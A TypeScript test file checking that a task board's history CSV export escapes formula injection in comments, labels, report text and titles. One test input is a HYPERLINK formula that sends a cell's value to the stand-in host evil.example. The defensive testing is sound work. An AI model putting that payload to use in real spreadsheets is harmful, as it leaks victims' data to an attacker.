import { parse } from 'csv-parse/sync';
import { useTestApp } from '../testing/use-test-app';

/** What a spreadsheet program would run as a formula if a cell started with it. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** Formula injection: whatever users type, the history CSV opens in a spreadsheet as text. */
describe('History CSV export against formula injection', () => {
  const suite = useTestApp();

  it('writes a formula typed into a comment, a report or a label as text, and numbers as numbers', async () => {
    const board = await suite.factory.board();
    const task = await suite.factory.task(board.id, { title: '-1 hour overtime', labels: ['=A1*2'] });
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await suite.admin.post(`/api/tasks/${task.id}/comments`, { body: hyperlink }).expect(201);
    await suite.admin.post(`/api/tasks/${task.id}/reports`, { text: '=1+2', progress: 30 }).expect(201);

    const response = await suite.admin.get(`/api/boards/${board.id}/history/export`).expect(200);

    const rows: string[][] = parse(response.text.slice(1));
    const after = (record: string, field: string) =>
      rows.findLast((row) => row[6] === record && row[7] === field)?.[9];
    expect(after('task', 'labels')).toBe("'=A1*2");
    expect(after('comment', 'body')).toBe(`'${hyperlink}`);
    expect(after('report', 'text')).toBe("'=1+2");
    expect(after('task', 'title')).toBe("'-1 hour overtime");
    // The task's name in every row is text from a user too.
    const taskRows = rows.filter((row) => row[4] === task.id);
    expect(new Set(taskRows.map((row) => row[5]))).toEqual(new Set(["'-1 hour overtime"]));
    expect(after('task', 'progress')).toBe('30');
    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });
});
